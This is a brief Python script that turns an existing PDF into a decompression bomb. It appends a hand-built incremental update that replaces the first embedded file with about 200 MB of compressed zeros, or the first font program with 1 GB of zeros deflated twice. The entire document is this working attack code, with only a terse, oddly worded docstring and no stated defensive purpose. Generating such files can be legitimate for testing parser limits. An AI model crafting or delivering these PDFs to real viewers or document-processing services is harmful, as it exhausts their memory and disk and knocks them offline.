"""bomb.py PDF KIND OUT: one stream is another that inflates to much more: an incremental update by hand.

EmbeddedFile: the first attached file, 200 MB where a few kilobytes are declared. FontFile2: the first font, 1 GB deflated
twice.
"""
import re
import sys
import zlib

pdf = open(sys.argv[1], "rb").read()
start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
trailer = re.search(rb"trailer\s*<<(.*?)>>\s*startxref", pdf, re.S).group(1)
if sys.argv[2] == "EmbeddedFile":
    number = int(re.search(rb"/Type/Filespec.*?/EF<</F (\d+) 0 R", pdf, re.S).group(1))
    head = b"/Type/EmbeddedFile/Filter/FlateDecode/Params<</Size 100>>"
    data = zlib.compress(bytes(200 << 20), 9)
else:
    number = int(re.search(rb"/FontFile2 (\d+) 0 R", pdf).group(1))
    head = b"/Filter[/FlateDecode/FlateDecode]"
    pack = zlib.compressobj(9)
    data = b"".join(pack.compress(bytes(1 << 20)) for _ in range(1024)) + pack.flush()
    data = zlib.compress(data, 9)
out = pdf + b"\n"
at = len(out)
out += b"%d 0 obj\n<<%s/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, head, len(data), data)
xref = len(out)
out += b"xref\n%d 1\n%010d 00000 n \ntrailer\n<<%s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (number, at, trailer, start, xref)
open(sys.argv[3], "wb").write(out)
